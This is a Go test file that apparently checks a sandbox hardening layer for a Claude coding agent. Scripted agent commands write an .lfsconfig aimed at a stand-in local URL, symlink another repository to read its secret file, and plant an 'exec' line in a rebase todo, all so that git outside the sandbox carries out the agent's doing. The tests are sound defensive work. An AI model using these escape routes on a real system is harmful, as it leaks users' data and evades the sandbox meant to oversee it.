// Copyright the steward-setup authors.
// SPDX-License-Identifier: Apache-2.0

// Law of this file: what docs/protection.md says of git that runs outside the sandbox
// because of what a command wrote is what the runtime and git do.

package iso_test

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/steward-setup/steward-setup/internal/agent/claude"
	"github.com/steward-setup/steward-setup/internal/agent/claude/iso"
	"github.com/steward-setup/steward-setup/internal/model"
	"github.com/steward-setup/steward-setup/internal/testenv"
)

// TestEnteringAWorktreeRunsGitOutside: the agent enters a worktree, itself or for
// another agent. git-lfs of the user's then asks the host that a command wrote into
// .lfsconfig, where nobody answers here, and git fetches from another repository of the user's, where a
// command has put a symlink called origin. The rules of the policy have it ask,
// and the launch adds them. Run with 2.1.329, git 2.39 and git-lfs 3.3; what is
// remote with 2.1.330.
func TestEnteringAWorktreeRunsGitOutside(t *testing.T) {
	testenv.AsRoot(t)
	t.Parallel()
	testenv.Need(t, "git", "git-lfs")
	enter := model.Call{Tool: "EnterWorktree", Input: map[string]any{"name": "w"}}
	agent := model.Call{Tool: "Agent", Input: map[string]any{"description": "x", "prompt": "x",
		"subagent_type": "general-purpose", "run_in_background": false, "isolation": "worktree"}}
	remote := model.Call{Tool: claude.ToolAgent, Input: map[string]any{"description": "x", "prompt": "x",
		"subagent_type": "general-purpose", "run_in_background": false, claude.IsolationInput: "remote"}}
	for _, c := range []struct {
		name, permissions string
		call              model.Call
		hardened, asked   bool
	}{
		{"plain, no rule", `{}`, enter, false, false},
		{"plain, no rule, an agent", `{}`, agent, false, false},
		{"plain, the rule", `{"ask":["` + claude.EntersWorktree + `"],"allow":["EnterWorktree"]}`, enter, false, true},
		{"plain, the rule, an agent", `{"ask":["` + claude.IsolatesAgents + `"],"allow":["Agent"]}`, agent, false, true},
		{"plain, a rule for worktrees, a remote agent", `{"ask":["Agent(isolation:worktree)"]}`, remote, false, false},
		{"plain, the rule, a remote agent", `{"ask":["` + claude.IsolatesAgents + `"],"allow":["Agent"]}`, remote, false, true},
		{"claude-iso, no rule, a remote agent", `{}`, remote, true, true},
		{"claude-iso, no rule", `{}`, enter, true, true},
		{"claude-iso, no rule, an agent", `{}`, agent, true, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			l := newLab(t)
			l.settings(`{"permissions":` + c.permissions + `}`)
			l.approve()
			l.put("other/secret.txt", secret)
			l.put(".gitconfig", "[user]\n\tname = x\n\temail = x@y.invalid\n"+
				"[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n\trequired = true\n")
			l.git("init", "-q", "-b", "main", "../other")
			l.git("-C", "../other", "add", "-A")
			l.git("-C", "../other", "commit", "-q", "-m", "x")
			const url = "http://127.0.0.1:9/what-is-carried-out"
			commit := "printf '[lfs]\\n url = " + url + "\\n' > .lfsconfig && " +
				"printf '*.bin filter=lfs\\n' > .gitattributes && " +
				"printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:" + strings.Repeat("ab", 32) +
				"\\nsize 12\\n' > a.bin && git add .lfsconfig .gitattributes a.bin && " +
				"git -c user.name=x -c user.email=x@y.invalid commit -qm y && echo committed"
			search := model.Call{Tool: "ToolSearch", Input: map[string]any{"query": "select:EnterWorktree"}}
			link := model.Bash(`python3 -c "import os; os.symlink('` + l.home + `/other', 'origin')"; echo linked`)
			read := model.Bash("git -C '" + l.project + "' show FETCH_HEAD:secret.txt")
			script := calls(model.Bash(commit), search, c.call, link, c.call, read, nothing)
			start := func() session { return l.plain("p", script...) }
			if c.hardened {
				start = func() session { return l.hardened("p", iso.Options{}, script...) }
			}
			s := start()
			for i, want := range map[int]string{0: "committed", 3: "linked"} {
				if said := s.text(t, i); !strings.Contains(said, want) {
					t.Fatalf("call %d: %q", i, said)
				}
			}
			for _, turn := range []int{2, 4} {
				said := s.text(t, turn)
				if strings.Contains(said, "requested permissions to use "+c.call.Tool) != c.asked {
					t.Errorf("a prompt, want %v: %q", c.asked, said)
				}
			}
			downloads, reads := strings.Contains(s.text(t, 2), `Post "`+url+"/"), strings.Contains(s.text(t, 5), secret)
			if downloads == c.asked || reads == c.asked {
				t.Errorf("downloads %v, reads the other repository %v: %q", downloads, reads, s.text(t, 5))
			}
		})
	}
}

// TestAnUnfinishedRebaseRunsCommands: a command writes the rest of a rebase into
// the git directory, and "git rebase --continue" of the user's runs it. Run with
// 2.1.329 and git 2.39.
func TestAnUnfinishedRebaseRunsCommands(t *testing.T) {
	inBothLaunches(t, func(t *testing.T, l *lab, start func(script ...model.Turn) session) {
		plant := "r=.git/rebase-merge; mkdir $r && git rev-parse HEAD > $r/onto && cp $r/onto $r/orig-head && " +
			"echo refs/heads/x > $r/head-name && echo 1 > $r/msgnum && echo 1 > $r/end && touch $r/interactive && " +
			"echo 'exec touch " + l.marks + "/rebased' > $r/git-rebase-todo && echo planted"
		s := start(calls(model.Bash(plant), nothing)...)
		if said := s.text(t, 0); !strings.Contains(said, "planted") {
			t.Fatalf("not planted: %q", said)
		}
		cmd := exec.Command("git", "rebase", "--continue")
		cmd.Dir, cmd.Env = l.project, testenv.Env(t, l.home)
		out, _ := cmd.CombinedOutput() // what it says of a branch that is not there is not the point
		if !l.marked("rebased") {
			t.Errorf("the command did not run: %s", out)
		}
	})
}
